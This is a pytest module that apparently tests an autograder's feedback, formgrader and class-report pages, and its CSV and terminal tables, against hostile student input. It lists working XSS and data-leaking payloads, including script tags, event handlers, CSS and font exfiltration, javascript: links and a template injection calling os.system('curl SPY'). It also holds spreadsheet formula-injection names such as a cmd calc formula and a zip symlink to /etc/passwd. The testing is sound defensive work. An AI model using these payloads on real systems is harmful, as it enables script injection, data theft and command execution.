"""Hostile content in what people open: in a real browser, beside a listener that no page may reach."""

from __future__ import annotations

import csv
import io
import re
import tempfile
import threading
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import nbformat
import pytest

from autograder.gradebook.lateness import Booked
from autograder.reports.autograded_notebook import compose
from autograder.reports.export import Column, write_csv
from autograder.reports.feedback_page import page
from autograder.results.graded import GradedSubmission, ManualMark
from autograder.results.roster import Person
from autograder.results.store import Record, Store
from autograder.results.verdicts import ExerciseResult, TestResult
from autograder.submissions.assignment import Handout, read_handout
from autograder.submissions.entry import Entry, student_id
from autograder.submissions.notebook import NotebookCell
from autograder.submissions.sanitize import harmless_outputs
from course.instructor.report.gather import gather
from course.instructor.report.page import page as report_page
from course.paths import Root
from tests.instructor.report_class import Learner, write_class
from tests.support.tiny_course import TINY

from .table import Attack

MODULE = "01_threads"
pytestmark = [pytest.mark.browser, pytest.mark.alone]


@dataclass(frozen=True, kw_only=True)
class Hostile(Attack):
    """What a learner writes, prints or raises. `SPY` in it stands for the listener's address of this attack."""

    row: str = "pages"
    text: str = field(repr=False)
    control: str = (
        "html"  #: where the text is known to reach the listener: raw, or as Markdown, or nowhere here
    )


RUN = "new Image().src='SPY'"
ATTACKS = (
    Hostile(name="script", tries="a script", text=f"<script>{RUN}</script>"),
    Hostile(name="script from elsewhere", tries="a script", text="<script src='SPY'></script>"),
    Hostile(name="script after a break-out", tries="to leave the block that holds it", text=f"</code></pre></textarea></style></title>--><script>{RUN}</script>"),
    Hostile(name="script in capitals", tries="a script", text=f"<ScRiPt\n>{RUN}</sCrIpT >"),
    Hostile(name="onerror", tries="an event handler", text=f'<img src=x: onerror="{RUN}">'),
    Hostile(name="onload of svg", tries="an event handler", text=f'<svg/onload="{RUN}">'),
    Hostile(name="onfocus", tries="an event handler", text=f'<input autofocus onfocus="{RUN}">'),
    Hostile(name="ontoggle", tries="an event handler", text=f'<details open ontoggle="{RUN}">x</details>'),
    Hostile(name="onstart of an animation", tries="an event handler", text=f'<style>@keyframes x{{}}</style><p style="animation-name:x" onanimationstart="{RUN}">x</p>'),
    Hostile(name="image", tries="a picture that tells who looked", text="<img src='SPY'>"),
    Hostile(name="srcset", tries="a picture that tells who looked", text="<img srcset='SPY 1x'>"),
    Hostile(name="video", tries="a video's still", text="<video poster='SPY'></video>"),
    Hostile(name="iframe", tries="another page within", text="<iframe src='SPY'></iframe>"),
    Hostile(name="srcdoc", tries="a page written within", text=f'<iframe srcdoc="<script>{RUN}</script>"></iframe>'),
    Hostile(name="object", tries="another page within", text="<object data='SPY'></object>"),
    Hostile(name="embed", tries="another page within", text="<embed src='SPY'>"),
    Hostile(name="style @import", tries="a style sheet from elsewhere", text="<style>@import 'SPY';</style>"),
    Hostile(name="style url()", tries="a style that loads", text="<style>body,html{background:url(SPY)}</style>"),
    Hostile(name="style by attribute", tries="to read the page by selectors", text="<style>input,p,body{--x:url(SPY)}body{background:var(--x)}</style>"),
    Hostile(name="font", tries="a font that tells which letters there are", text="<style>@font-face{font-family:f;src:url(SPY)}*{font-family:f!important}</style>x"),
    Hostile(name="style=", tries="an attribute that loads", text="<div style='background:url(SPY)'>x</div>"),
    Hostile(name="link", tries="a style sheet from elsewhere", text="<link rel=stylesheet href='SPY'>"),
    Hostile(name="preload", tries="an early request", text="<link rel=preload as=image href='SPY'>"),
    Hostile(name="meta refresh", tries="to lead the reader away", text="<meta http-equiv=refresh content='0;url=SPY'>"),
    Hostile(name="base", tries="to turn all links", text="<base href='SPY/'><img src='x'>"),
    Hostile(name="form", tries="to send what is typed", text="<form action='SPY' id=f><button autofocus>x</button></form><script>f.submit()</script>"),
    Hostile(name="svg use", tries="a drawing that loads", text="<svg><image href='SPY'/></svg>"),
    Hostile(name="confused parser", tries="what a sanitizer reads otherwise than a browser", text=f"<math><mtext><table><mglyph><style><img src=x: onerror=\"{RUN}\"></style></table></mtext></math>", control=""),
    Hostile(name="noscript", tries="what a sanitizer reads otherwise than a browser", text=f'<noscript><p title="</noscript><img src=x: onerror={RUN}>">', control=""),
    Hostile(name="javascript:", tries="a link that runs", text=f"<a href=\"javascript:void({RUN})\">x</a>"),
    Hostile(name="picture", tries="a picture in Markdown", text="![x](SPY)", control="markdown"),
    Hostile(name="picture by reference", tries="a picture in Markdown", text="![x][r]\n\n[r]: SPY", control="markdown"),
    Hostile(name="javascript: in Markdown", tries="a link that runs", text="[x](javascript:void(new/**/Image().src='SPY'))", control="markdown"),
    Hostile(name="javascript\\:", tries="a scheme that is hidden from a filter", text="[x](javascript\\:void(new/**/Image().src='SPY'))", control="markdown"),
    Hostile(name="javascript by reference", tries="the same elsewhere", text="[x]\n\n[x]: javascript\\:void(new/**/Image().src='SPY')", control="markdown"),
    Hostile(name="Markdown after a fence", tries="to leave the block that holds it", text="````\n```\n</pre>\n\n![x](SPY)", control=""),
    Hostile(name="colours of a terminal", tries="markup within codes", text=f"\x1b[31m<img src=x: onerror=\"{RUN}\">\x1b[0m\x1b]8;;SPY\x07x\x1b]8;;\x07", control=""),
    Hostile(name="template", tries="to be run by the page's template", text="{{ cycler.__init__.__globals__.os.system('curl SPY') }}{% raw %}", control=""),
    Hostile(name="\\href", tries="a link by MathJax", text=r"$\href{javascript:void(new/**/Image().src='SPY')}{x}$", control=""),
    Hostile(name="\\bbox", tries="a style by MathJax", text=r"$\bbox[background:url(SPY)]{x}$", control=""),
    Hostile(name="\\mmlToken", tries="an attribute by MathJax", text=r"$\mmlToken{mi}[href='SPY']{x}$", control=""),
)  # fmt: skip


@dataclass
class Listener:
    """A server that notes which attack reached it."""

    address: str
    heard: set[str] = field(default_factory=set)

    def armed(self, attack: Hostile) -> str:
        return attack.text.replace("SPY", f"{self.address}/{ATTACKS.index(attack)}")

    def has_heard(self, attack: Hostile) -> bool:
        return str(ATTACKS.index(attack)) in self.heard


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.heard.add(self.path.split("/")[1].rstrip("?"))
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found = Listener(address=f"http://127.0.0.1:{server.server_port}")
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield found
    server.shutdown()
    server.server_close()


CLICK = """() => { for (const link of document.querySelectorAll("a[href]"))
    if (!/^(https?|mailto|file):$/.test(link.protocol)) link.click() }"""


@pytest.fixture(scope="module")
def tab(browser) -> Iterator[Any]:
    yield (made := browser.new_page())
    made.close()


def opened(tab: Any, html: str, path: Path, until: Callable[[], bool]) -> list[str]:
    """Open a page, click what is a link and no address; return what it tried to load or say until then."""
    path.write_text(html)
    said = list[str]()
    hearing = {
        "dialog": lambda dialog: (said.append(dialog.message), dialog.dismiss()),
        "request": lambda request: said.append(request.url),
    }
    for event, handler in hearing.items():
        tab.on(event, handler)
    tab.goto(path.as_uri(), wait_until="commit")
    for turn in range(20):
        if until():
            break
        if turn == 5:
            tab.evaluate(CLICK)
        tab.wait_for_timeout(30)
    for event, handler in hearing.items():
        tab.remove_listener(event, handler)
    return [url for url in said if not url.startswith(("file:", "data:"))]


def rendered_by_nbconvert(text: str) -> str:
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    return markdown2html_mistune(text)


CONTROLS = [attack for attack in ATTACKS if attack.control]


@pytest.mark.parametrize("attack", CONTROLS, ids=str)
def test_the_listener_would_have_heard_it(tab, listener: Listener, attack: Hostile, tmp_path: Path):
    """The control: a page that does nothing against it."""
    text = listener.armed(attack)
    html = rendered_by_nbconvert(text) if attack.control == "markdown" else text
    path = tmp_path / "control.html"
    opened(
        tab, f"<!DOCTYPE html><title>x</title><body>{html}</body>", path, lambda: listener.has_heard(attack)
    )
    assert listener.has_heard(attack)


def every_output(text: str) -> list[dict[str, Any]]:
    """The text in each kind of output that there is."""
    mimes = ("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript")
    mimes += ("text/plain", "image/png", "application/vnd.jupyter.widget-view+json")
    streams = [{"output_type": "stream", "name": name, "text": text} for name in ("stdout", "stderr")]
    shown = [{"output_type": "display_data", "metadata": {}, "data": {mime: text}} for mime in mimes]
    picture = {"image/png": "iVBORw0KGgo=" + text, "text/plain": text}
    error = {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]}
    return [*streams, *shown, {"output_type": "display_data", "metadata": {}, "data": picture}, error]


def submitted(texts: list[str]) -> tuple[GradedSubmission, tuple[NotebookCell, ...]]:
    """A submission that holds each text in every place that learners can write to."""
    trouble = [
        TestResult(title="It runs.", points=1, hidden=False, status="error", message=text, traceback=text)
        for text in texts
    ]
    exercises = [ExerciseResult(name="compile_with_checkpointer", tests=tuple(trouble))]
    exercises += [ExerciseResult(name="read_thread", tests=(test,)) for test in trouble]
    graded = GradedSubmission(
        student=student_id(texts[0]),
        module=MODULE,
        exercises=tuple(exercises),
        seed=1,
        manual=(ManualMark(name="why_it_forgot", points=3),),
    )
    cells = [
        NotebookCell(kind=kind, source=text, grade_id=name, outputs=harmless_outputs(every_output(text)))
        for text in texts
        for kind in ("code", "markdown", "raw")
        for name in (None, text)
    ]
    answers = [NotebookCell(kind="markdown", source="\n\n".join(texts), grade_id="why_it_forgot")]
    return graded, (*answers, *cells)


@pytest.fixture(scope="module")
def handout(root) -> Handout:
    return read_handout(root.notebook(MODULE, "exercises"))


def formgrader(notebook: nbformat.NotebookNode, *, ours: bool) -> str:
    """The page as formgrader renders it, with nbgrader's template; set up as we do, or not at all."""
    import nbgrader.server_extensions.formgrader as extension
    from nbconvert.exporters import HTMLExporter
    from traitlets.config import Config

    config = Config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [str(Path(extension.__file__).parent / "templates")]
    if ours:
        config.HTMLExporter.sanitize_html = True
        config.HTMLExporter.filters = {"markdown2html": "autograder.submissions.sanitize.rendered"}
    about = dict.fromkeys(("assignment_id", "notebook_id", "submission_id", "student", "notebook_path"), "x")
    about |= {"index": 0, "total": 1, "base_url": "", "last_name": None, "first_name": None}
    return HTMLExporter(config=config).from_notebook_node(notebook, resources=about)[0]


Cells = tuple[NotebookCell, ...]
Render = Callable[[GradedSubmission, Cells, Handout], str]


def as_feedback(graded: GradedSubmission, cells: Cells, handout: Handout) -> str:
    return page(graded, handout, {cell.grade_id: cell.source for cell in cells if cell.grade_id})


def as_formgrader(*, ours: bool) -> Render:
    def render(graded: GradedSubmission, cells: Cells, handout: Handout) -> str:
        shown = [{**cell, "id": f"c{n}"} for n, cell in enumerate(compose(graded, cells, handout))]
        made = {"cells": shown, "metadata": handout.metadata, "nbformat": 4, "nbformat_minor": 5}
        return formgrader(nbformat.from_dict(made), ours=ours)

    return render


def as_note(graded: GradedSubmission, _cells: Cells, handout: Handout) -> str:
    """The texts in what the grader says of the file as a whole, which quotes names."""
    note = "; ".join(test.message for exercise in graded.exercises[1:] for test in exercise.tests)
    return as_formgrader(ours=False)(replace(graded, error=note, exercises=()), (), handout)


def as_report(graded: GradedSubmission, cells: Cells, _handout: Handout) -> str:
    """The texts in the class report: told to learners, as names on the roster, and in answers that are alike."""
    told = [test for exercise in graded.exercises[1:] for test in exercise.tests]
    exercises = tuple(ExerciseResult(name=f"e{n}", tests=(test,)) for n, test in enumerate(told))
    people = [
        Person(id=f"p{n}", name=t.message, email=t.message, section=t.message) for n, t in enumerate(told)
    ]
    code = "\n".join(cell.source[:200_000] for cell in cells if cell.grade_id)
    with tempfile.TemporaryDirectory() as folder:
        learners = [Learner(student=student, answers={"read_thread": code}) for student in ("ada", "ben")]
        out = write_class(Path(folder), learners, people)
        with Store(out.store) as store:
            row = replace(graded, student="eve", exercises=exercises)
            kept = Record(submission=row, fingerprints={}, answer_hashes={}, inputs_hash="", page_hash="")
            store.keep(kept, judged=[e.name for e in exercises], tier="a")
        return report_page(gather(Root(TINY), out, Booked()), out)


PAGES: dict[str, Render] = {
    "feedback": as_feedback,
    "class report": as_report,
    "formgrader": as_formgrader(ours=True),
    "formgrader, not set up": as_formgrader(ours=False),
    "note in formgrader": as_note,
}


@dataclass
class Seen:
    """What came of all attacks at once on one page."""

    text: str  #: where MathJax looks for commands; empty where there is no MathJax
    heard: set[str]
    said: list[str]


@pytest.fixture(scope="module", params=PAGES)
def seen(request, tab, listener: Listener, handout: Handout, tmp_path_factory) -> Seen:
    """All attacks on one page. None may come through, so none can hide another."""
    html = PAGES[request.param](*submitted([listener.armed(attack) for attack in ATTACKS]), handout)
    listener.heard.clear()
    said = opened(tab, html, tmp_path_factory.mktemp("pages") / "page.html", lambda: False)
    outside = re.sub(r"(?s)<(script|style|pre|code|textarea)\b.*?</\1>", "", html)
    return Seen(text=outside if "mathjax" in html.lower() else "", heard=set(listener.heard), said=said)


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_no_page_reaches_the_listener(seen: Seen, listener: Listener, attack: Hostile, record_property):
    number = str(ATTACKS.index(attack))
    assert number not in seen.heard
    assert f"{listener.address}/{number}" not in seen.said
    command = attack.name if attack.name.startswith("\\") else None
    assert not (command and command in seen.text)
    record_property("saw", "heard from a control page, not from this" if attack.control else "shown as text")


def test_a_page_asks_nothing_of_anyone_but_nbgrader_itself(seen: Seen):
    assert not [url for url in seen.said if "cdnjs.cloudflare.com" not in url and "/formgrader/" not in url]


HUGE = Attack(name="huge outputs", row="pages", tries="a page that no browser can hold")
DEEP = Attack(name="deep Markdown", row="pages", tries="a page that cannot be rendered")


@pytest.mark.parametrize("attack", [HUGE, DEEP], ids=str)
@pytest.mark.parametrize("where", PAGES)
def test_what_is_huge_is_cut(attack: Attack, where: str, handout: Handout, record_property):
    picture = "iVBORw0KGgoAAAANSUhEUgAA//8AAP//" + "A" * (3 << 20)  # 65,535 pixels each way
    text = ">" * 10**6 + "[" * 10**6 if attack is DEEP else "x\n" * (4 << 20)
    outputs = [*every_output(text), *every_output(picture)] * 100
    graded, _ = submitted(["x"])
    cells = [NotebookCell(kind="markdown", source=text, grade_id=name) for name in ("why_it_forgot", None)]
    cells.append(NotebookCell(kind="code", source="x", outputs=harmless_outputs(outputs)))
    html = PAGES[where](graded, tuple(cells), handout)
    record_property("saw", f"a page of {len(html):,} characters")
    assert len(html) < 1_000_000


RAISED = Attack(
    name="huge error", row="pages", tries="a message and a traceback of 8 MB, as a forged reply can hold"
)


@pytest.mark.parametrize("attack", [RAISED], ids=str)
def test_a_forged_error_is_cut(attack: Attack, handout: Handout, record_property):
    from autograder.testing.fixture import raised

    outcome = raised({"kind": "raised", "error": "E" * 10**6, "message": "m" * 10**6, "traceback": "t\n" * 10**6, "in_cell": True})  # fmt: skip
    record_property("saw", f"{len(outcome.message) + len(outcome.traceback):,} characters are kept")
    assert len(outcome.message) + len(outcome.traceback) < 50_000


NAMES = (
    Attack(name="=cmd|' /C calc'!A0", row="tables", tries="a formula for a name"),
    Attack(name="+1+cmd", row="tables", tries="a formula for a name"),
    Attack(name="-2+3", row="tables", tries="a formula for a name"),
    Attack(name="@SUM(A1)", row="tables", tries="a formula for a name"),
    Attack(name="\t=1", row="tables", tries="a formula after a tab"),
    Attack(name="a;=1+1", row="tables", tries="a formula where a semicolon parts cells"),
    Attack(name="a\r\n=1+1", row="tables", tries="a formula on a line of its own"),
    Attack(name='a","=1+1', row="tables", tries="to end a cell"),
    Attack(name="\uff1d1+1", row="tables", tries="a wide equals sign"),
    Attack(name="\x1b[2J\x1b]0;x\x07", row="tables", tries="to clear the terminal"),
    Attack(name="\x9b2J\x08\x08", row="tables", tries="codes of one byte"),
    Attack(name="[red]a[/red][link=http://x]", row="tables", tries="markup of the table's own"),
    Attack(name="a\u202ecod.ipynb", row="tables", tries="a name that reads otherwise"),
    Attack(name="<script>a", row="tables", tries="markup"),
)


def tables(entry: Entry, folder: Path) -> tuple[str, list[list[str]]]:
    """Return what the terminal shows of a submission, and the cells of `grades.csv`."""
    from rich.console import Console

    from course.instructor.class_table import table

    graded = GradedSubmission(student=entry.student, module=MODULE, exercises=(), seed=1, error=entry.problem)
    columns = [Column(module=MODULE, name="read_thread", points=4)]
    write_csv(folder / "grades.csv", [graded], columns)
    printed = io.StringIO()
    Console(file=printed, width=200).print(table([graded], columns))
    text = (folder / "grades.csv").read_text(encoding="utf-8-sig")
    return printed.getvalue(), list(csv.reader(io.StringIO(text)))


def assert_inert(entry: Entry, folder: Path) -> None:
    printed, rows = tables(entry, folder)
    assert entry.student[:30] in printed
    assert len(rows) == 2
    for text in (*printed.split("\n"), *rows[1]):
        assert text.isprintable(), ascii(text)
    for cell in (part for whole in rows[1] for part in whole.split(";")):  # as Excel parts it in Europe
        assert cell.strip()[:1] not in {*"=+-@\uff1d\uff0b\uff0d\uff20"}, cell


@pytest.mark.parametrize("attack", NAMES, ids=lambda attack: ascii(attack.name))
def test_a_students_name_is_inert_in_both_tables(attack: Attack, tmp_path: Path, record_property):
    from autograder.submissions.inbox import open_inbox

    (tmp_path / "class" / attack.name.replace("/", ".") / MODULE).mkdir(parents=True)
    with open_inbox(tmp_path / "class", [MODULE]) as inbox:
        assert_inert(inbox.entries[0], tmp_path)
        record_property("saw", f"the name is {inbox.entries[0].student}")


@pytest.mark.parametrize("attack", NAMES, ids=lambda attack: ascii(attack.name))
def test_a_files_name_is_inert_in_both_tables(attack: Attack, tmp_path: Path):
    from autograder.submissions.inbox import open_inbox

    (tmp_path / "class" / "ada" / MODULE).mkdir(parents=True)
    (tmp_path / "class" / "ada" / MODULE / f"{attack.name.replace('/', '.')}.docx").touch()
    with open_inbox(tmp_path / "class", [MODULE]) as inbox:
        assert_inert(inbox.entries[0], tmp_path)


@pytest.mark.parametrize("attack", NAMES, ids=lambda attack: ascii(attack.name))
def test_a_name_in_an_archive_is_inert_in_both_tables(attack: Attack, tmp_path: Path):
    """Of a file that is refused, which the note names."""
    from autograder.submissions.inbox import open_inbox

    with zipfile.ZipFile(tmp_path / "class.zip", "w") as bundle:
        entry = zipfile.ZipInfo(f"ada/{MODULE}/{attack.name.replace('/', '.')}.ipynb")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        bundle.writestr(entry, "/etc/passwd")
    with open_inbox(tmp_path / "class.zip", [MODULE]) as inbox:
        assert_inert(inbox.entries[0], tmp_path)
